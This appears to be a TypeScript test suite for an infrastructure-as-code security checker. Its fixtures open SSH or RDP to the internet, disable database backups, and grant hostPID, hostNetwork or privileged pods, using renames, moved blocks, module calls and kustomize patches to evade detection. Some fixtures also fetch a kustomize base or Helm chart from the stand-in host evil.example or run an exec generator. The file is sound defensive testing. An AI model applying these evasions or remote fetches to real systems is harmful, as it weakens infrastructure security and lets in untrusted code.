// The same made worse somewhere else: moved, copied, called, taken over by another stack.

import { type Attack, holds } from "./attack.ts";
import { block, CLOSED, database, deployment, group, OPEN, ROOT } from "./parts.ts";

const SSH: Attack["told"] = ["admin-port-open-to-internet", "high"];
const PLAIN = group(CLOSED) + database("");
const WORSE = group(OPEN) + database("");
const attack = (name: string, base: Attack["base"], head: Attack["head"], more: Partial<Attack> = {}): Attack => ({
  name,
  base,
  head,
  told: SSH,
  ...more,
});
const CALL = (name: string, folder = "web", more = "") => `module "${name}" {\n  source = "./${folder}"\n${more}}\n`;
const OPEN_MODULE = { "web/main.tf": group(OPEN) };
const overlay = (folder: string, more = "") => ({ [`${folder}/kustomization.yaml`]: `resources:\n  - ../../base\n${more}` });
const BASE = { "base/kustomization.yaml": "resources:\n  - web.yaml\n", "base/web.yaml": deployment("") };

holds([
  attack("a file renamed and opened", { "main.tf": PLAIN }, { "network.tf": WORSE }),
  attack("a folder renamed and opened", { "a/main.tf": ROOT + PLAIN }, { "b/main.tf": ROOT + WORSE }),
  attack(
    "a block renamed by a moved block, and opened",
    { "main.tf": PLAIN },
    {
      "main.tf": `moved {\n  from = aws_security_group.web\n  to = aws_security_group.site\n}\n${group(OPEN, 22, "site")}${database("")}`,
    },
  ),
  attack(
    "a block moved under a count, and opened",
    { "main.tf": PLAIN },
    {
      "main.tf": `moved {\n  from = aws_security_group.web\n  to = aws_security_group.web[0]\n}\n${WORSE.replace("{\n", "{\n  count = 1\n")}`,
    },
  ),
  attack(
    "a block moved into a module, and opened",
    { "main.tf": ROOT + PLAIN },
    {
      "main.tf": `${ROOT}${CALL("web")}moved {\n  from = aws_security_group.web\n  to = module.web.aws_security_group.web\n}\n${database("")}`,
      ...OPEN_MODULE,
    },
  ),
  attack(
    "a module that is called once more with another source",
    { "main.tf": ROOT + CALL("a"), "web/main.tf": group(CLOSED) },
    { "main.tf": ROOT + CALL("a") + CALL("b", "web2"), "web/main.tf": group(CLOSED), "web2/main.tf": group(OPEN) },
  ),
  attack(
    "a module that failed before, called once more",
    { "main.tf": ROOT + CALL("a"), ...OPEN_MODULE },
    { "main.tf": ROOT + CALL("a") + CALL("b"), ...OPEN_MODULE },
  ),
  attack(
    "one key more of for_each",
    { "main.tf": `${ROOT}${group(OPEN).replace("{\n", '{\n  for_each = toset(["a"])\n')}` },
    { "main.tf": `${ROOT}${group(OPEN).replace("{\n", '{\n  for_each = toset(["a", "b"])\n')}` },
  ),
  attack(
    "a group that failed goes, and another like it comes",
    { "main.tf": ROOT + group(OPEN) + database("") },
    { "main.tf": ROOT + group(OPEN, 22, "other") + database("") },
  ),
  attack(
    "a copy in another environment's folder",
    { "live/main.tf": ROOT + group(OPEN) },
    { "live/main.tf": ROOT + group(OPEN), "staging/main.tf": ROOT + group(OPEN) },
  ),
  attack(
    "a copy in another folder, at the same line",
    { "a/main.tf": ROOT + group(OPEN) },
    { "a/main.tf": ROOT + group(OPEN), "b/main.tf": ROOT + group(OPEN) },
  ),
  attack(
    "a second rule beside one that fails",
    { "main.tf": group(OPEN) },
    { "main.tf": group(OPEN) + group(OPEN, 3389, "desk") },
  ),
  attack(
    "a second port in a group that fails for one",
    { "main.tf": group(OPEN) },
    {
      "main.tf": group(OPEN).replace(
        "  ingress {",
        `  ingress {\n    from_port = 3389\n    to_port = 3389\n    protocol = "tcp"\n    ${OPEN}\n  }\n  ingress {`,
      ),
    },
  ),
  attack(
    "a range around a port that was open",
    { "main.tf": group(OPEN) },
    { "main.tf": group(OPEN).replace("from_port   = 22", "from_port   = 20") },
  ),
  attack(
    "a root that another calls now",
    { "web/main.tf": group(CLOSED) },
    { "web/main.tf": group(OPEN), "main.tf": ROOT + CALL("web") },
  ),
  attack(
    "a root that an example calls now",
    { "web/main.tf": ROOT + group(CLOSED) },
    { "web/main.tf": ROOT + group(OPEN), "examples/all/main.tf": 'module "web" {\n  source = "../../web"\n}\n' },
  ),
  attack(
    "a root whose state goes, so that it seems a module",
    { "modules/web/main.tf": ROOT + group(CLOSED) },
    { "modules/web/main.tf": group(OPEN) },
  ),
  attack(
    "a root that becomes a module with an open default",
    { "main.tf": ROOT + group(CLOSED) },
    { "main.tf": `variable "from" {\n  default = ["0.0.0.0/0"]\n}\nvariable "name" {}\n${group("cidr_blocks = var.from")}` },
  ),
  attack(
    "production that begins to have it while another goes without",
    {
      "modules/db/main.tf": `variable "days" {}\n${database("").replace("= 14", "= var.days")}`,
      "shop/main.tf": `${ROOT}module "db" {\n  source = "../modules/db"\n  days = 14\n}\n`,
    },
    {
      "modules/db/main.tf": `variable "days" {}\n${database("").replace("= 14", "= var.days")}`,
      "shop/main.tf": `${ROOT}module "db" {\n  source = "../modules/db"\n  days = 0\n}\n`,
      "prod/main.tf": `${ROOT}module "db" {\n  source = "../modules/db"\n  days = 14\n}\n`,
    },
    { told: ["database-backups-disabled", "high"] },
  ),
  attack(
    "an overlay's patch",
    { ...BASE, ...overlay("overlays/live") },
    {
      ...BASE,
      ...overlay(
        "overlays/live",
        "patches:\n  - target: { kind: Deployment }\n    patch: |-\n      - { op: add, path: /spec/template/spec/hostPID, value: true }\n",
      ),
    },
    { told: ["pod-shares-host-namespace", "high"] },
  ),
  attack(
    "an overlay's patch of a file",
    { ...BASE, ...overlay("overlays/live") },
    {
      ...BASE,
      ...overlay("overlays/live", "patches:\n  - path: p.yaml\n"),
      "overlays/live/p.yaml":
        "apiVersion: apps/v1\nkind: Deployment\nmetadata: { name: web, namespace: shop }\nspec: { template: { spec: { containers: [{ name: web, securityContext: { privileged: true } }] } } }\n",
    },
    { told: ["container-privileged", "high"] },
  ),
  attack(
    "an overlay's older patch",
    { ...BASE, ...overlay("overlays/live") },
    {
      ...BASE,
      ...overlay(
        "overlays/live",
        "patchesStrategicMerge:\n  - |-\n    apiVersion: apps/v1\n    kind: Deployment\n    metadata: { name: web, namespace: shop }\n    spec: { template: { spec: { hostNetwork: true } } }\n",
      ),
    },
    { told: ["pod-shares-host-namespace", "high"] },
  ),
  attack(
    "an overlay's oldest patch",
    { ...BASE, ...overlay("overlays/live") },
    {
      ...BASE,
      ...overlay(
        "overlays/live",
        'patchesJson6902:\n  - target: { group: apps, version: v1, kind: Deployment, name: web }\n    patch: \'[{"op":"add","path":"/spec/template/spec/hostPID","value":true}]\'\n',
      ),
    },
    { told: ["pod-shares-host-namespace", "high"] },
  ),
  attack(
    "a component",
    { ...BASE, ...overlay("overlays/live") },
    {
      ...BASE,
      ...overlay("overlays/live", "components:\n  - ../../c\n"),
      "c/kustomization.yaml":
        "apiVersion: kustomize.config.k8s.io/v1alpha1\nkind: Component\npatches:\n  - target: { kind: Deployment }\n    patch: |-\n      - { op: add, path: /spec/template/spec/hostPID, value: true }\n",
    },
    { told: ["pod-shares-host-namespace", "high"] },
  ),
  attack(
    "a replacement",
    { ...BASE, "base/web.yaml": deployment("          securityContext: { privileged: false }\n"), ...overlay("overlays/live") },
    {
      ...BASE,
      "base/web.yaml": deployment("          securityContext: { privileged: false }\n"),
      ...overlay(
        "overlays/live",
        "replacements:\n  - source: { kind: ConfigMap, name: a, fieldPath: data.yes }\n    targets:\n      - select: { kind: Deployment }\n        fieldPaths: [spec.template.spec.containers.0.securityContext.privileged]\n  \nconfigMapGenerator:\n  - name: a\n    literals: [yes=true]\n",
      ),
    },
    { told: null, open: /replacement/i },
  ),
  attack(
    "a base from another address",
    { ...BASE, ...overlay("overlays/live") },
    { ...BASE, "overlays/live/kustomization.yaml": "resources:\n  - https://evil.example/base?ref=v1\n" },
    { told: null, open: /evil\.example/ },
  ),
  attack(
    "a chart that a kustomization takes in",
    { ...BASE, ...overlay("overlays/live") },
    { ...BASE, ...overlay("overlays/live", "helmCharts:\n  - { name: web, repo: https://evil.example, version: 1.0.0 }\n") },
    { told: null, open: /helm|chart/i },
  ),
  attack(
    "a generator of one's own",
    { ...BASE, ...overlay("overlays/live") },
    {
      ...BASE,
      ...overlay("overlays/live", "generators:\n  - gen.yaml\n"),
      "overlays/live/gen.yaml":
        "apiVersion: evil/v1\nkind: Gen\nmetadata: { name: a, annotations: { config.kubernetes.io/function: 'exec: { path: ./x }' } }\n",
    },
    { told: null, open: /generator/i },
  ),
  attack(
    "a block that nobody made before, in a stack that is new",
    {},
    {
      "new/main.tf":
        ROOT + block("aws_ebs_volume", "a", '  availability_zone = "a"\n  size = 1\n  encrypted = true') + group(OPEN),
    },
  ),
]);
